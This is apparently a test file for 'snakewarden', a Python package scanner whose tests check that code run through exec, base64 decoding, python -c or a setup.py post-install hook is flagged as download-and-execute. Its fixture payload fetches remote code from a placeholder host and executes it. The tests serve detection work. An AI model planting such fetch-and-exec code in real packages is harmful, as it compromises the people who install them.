"""Code a file hands to exec/eval/compile as a literal is analysed like a file of its own."""

from __future__ import annotations

import base64
from collections.abc import Callable

from snakewarden.analysis import analyze
from snakewarden.analysis.context import MAX_EXECUTED, ScanContext
from snakewarden.artifacts import artifact_from_files
from snakewarden.core.models import Phase

PAYLOAD = "import requests\nexec(requests.get('https://stage.example.invalid/x').text)\n"


def _ctx(files: dict[str, str]) -> ScanContext:
    files = {"pyproject.toml": "", **files}
    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
    return ScanContext(artifact_from_files("demo", entries))


def _reader(data: bytes) -> Callable[[int], bytes]:
    return lambda n: data[:n]


def _download_execute(files: dict[str, str]) -> list[object]:
    ctx = _ctx(files)
    result = analyze(ctx.artifact, target="demo")
    return [f for f in result.findings if f.rule == "download-execute"]


def test_literal_code_run_by_exec_is_analysed_at_the_call() -> None:
    init = f"import os\n\nexec({PAYLOAD!r})\n"
    found = _download_execute({"acme/__init__.py": init})
    assert found
    f = found[0]
    assert f.file.endswith("acme/__init__.py")
    assert f.line == 3  # the exec call, not a line of the executed text
    assert "in code that line 3 runs" in f.message
    assert "requests.get" in f.evidence
    assert f.phase is Phase.IMPORT


def test_code_decoded_in_place_and_executed_is_analysed() -> None:
    blob = base64.b64encode(PAYLOAD.encode()).decode()
    init = f"import base64\nexec(base64.b64decode('{blob}').decode())\n"
    assert _download_execute({"acme/__init__.py": init})


def test_a_literal_assigned_then_executed_is_analysed_too() -> None:
    init = f"CODE = {PAYLOAD!r}\nexec(compile(CODE, '<x>', 'exec'))\nexec(CODE)\n"
    assert _download_execute({"acme/__init__.py": init})


def test_code_given_to_python_dash_c_is_analysed() -> None:
    for python in ("sys.executable", "'python3'", "'/usr/bin/python3.11'"):
        init = f"import subprocess, sys\nsubprocess.Popen([{python}, '-u', '-c', {PAYLOAD!r}])\n"
        found = _download_execute({"acme/__init__.py": init})
        assert found, python
        assert found[0].line == 2
    # another program's -c is no Python code, and python given a script file runs no literal
    for argv in ("['gcc', '-c', CODE]", "[sys.executable, 'tool.py', '-c', CODE]"):
        init = f"import subprocess, sys\nCODE = {PAYLOAD!r}\nsubprocess.run({argv})\n"
        assert not _ctx({"acme/__init__.py": init}).executed_sources(), argv


def test_code_written_to_a_file_then_run_with_python_is_analysed() -> None:
    hook = (
        "import os\n"
        "def post_install():\n"
        "    with open(os.path.join(os.getenv('APPDATA'), 'stage.py'), 'w') as f:\n"
        f"        f.write({PAYLOAD!r})\n"
        "    os.system('python ' + os.path.join(os.getenv('APPDATA'), 'stage.py'))\n"
    )
    found = _download_execute({"setup.py": hook + "post_install()\n"})
    assert found
    assert found[0].line == 4
    # text written where no Python is started is data, whatever it looks like
    quiet = hook.replace("os.system('python ' + ", "print(")
    assert not _ctx({"setup.py": quiet}).executed_sources()


def test_code_executed_inside_an_uncalled_function_runs_when_called() -> None:
    mod = f"def later():\n    exec({PAYLOAD!r})\n"
    ctx = _ctx({"acme/__init__.py": "", "acme/tools.py": mod})
    inner = ctx.executed_sources()
    assert len(inner) == 1
    assert inner[0].phase(0) is Phase.RUNTIME


def test_expressions_and_plain_text_are_not_sources() -> None:
    mod = "x = eval('1 + 2')\nexec('# nothing')\nexec(open('local.py').read())\n"
    assert _ctx({"acme/__init__.py": mod}).executed_sources() == []


def test_nested_and_repeated_execs_are_bounded() -> None:
    code = PAYLOAD
    for _ in range(6):  # exec of exec of ... deeper than followed
        code = f"exec({code!r})\n"
    many = "".join(f"exec({PAYLOAD!r})\n" for _ in range(MAX_EXECUTED + 10))
    ctx = _ctx({"acme/__init__.py": code, "acme/many.py": many})
    assert len(ctx.executed_sources()) <= MAX_EXECUTED
